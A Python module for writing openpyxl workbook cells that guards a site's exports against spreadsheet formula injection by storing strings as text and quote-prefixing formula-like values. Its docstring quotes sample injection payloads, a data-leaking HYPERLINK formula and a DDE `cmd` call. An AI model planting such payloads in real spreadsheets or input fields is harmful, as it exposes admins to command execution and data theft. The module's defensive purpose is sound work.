"""The one way a workbook cell gets its value, for every workbook the site writes (registry
exports and templates, survey templates, the report): a value keeps its type, and text is a
text cell whatever it begins with.

openpyxl stores a str that begins with "=" as a formula and one that reads "#N/A" as an error.
A committee renamed `=HYPERLINK("http://…"&A1,"点我")` would become a clickable link in an
admin's export, and `=cmd|' /C calc'!A0` a DDE call. Here a str is always a string cell, and
text that a spreadsheet would take for a formula when the cell is edited (first character =, +,
-, @, a tab or a carriage return) also gets the quote prefix, so it stays text after an edit.
The importers read such a cell back as the same text.

No builder writes a formula (totals are summed in Python): one that ever must gets a function
of its own here, so that a formula is always written on purpose and never from a value.
"""

from __future__ import annotations

import datetime
from decimal import Decimal

from openpyxl.cell.cell import Cell
from openpyxl.comments import Comment
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Value = str | int | float | Decimal | bool | datetime.date | datetime.datetime | None


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read `text`, typed into a cell, as a formula."""
    return text.startswith(FORMULA_STARTS)


def write(cell: Cell, value: Value) -> Cell:
    """Give `cell` the value: text as text, numbers as numbers, dates as dates (the cell's number
    format is kept when it is a date format). Call it after the cell's style is set."""
    if isinstance(value, str):
        # Bypass openpyxl's guess (value.setter): its checks, then the type fixed to text.
        cell._value = cell.check_string(value)
        cell.data_type = "s"
        if looks_like_formula(value):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def put(ws: Worksheet, row: int, column: int, value: Value) -> Cell:
    """Write `value` at (row, column) of `ws` and return the cell (for its style)."""
    return write(ws.cell(row, column), value)


def annotate(cell: Cell, text: str, author: str = "") -> Cell:
    """Put a comment (Excel's note) on `cell`, sized to show a few lines of it."""
    lines = max(2, min(12, sum(len(line) // 20 + 1 for line in text.splitlines() or [""]) + 1))
    cell.comment = Comment(text, author, height=20 * lines, width=240)
    return cell
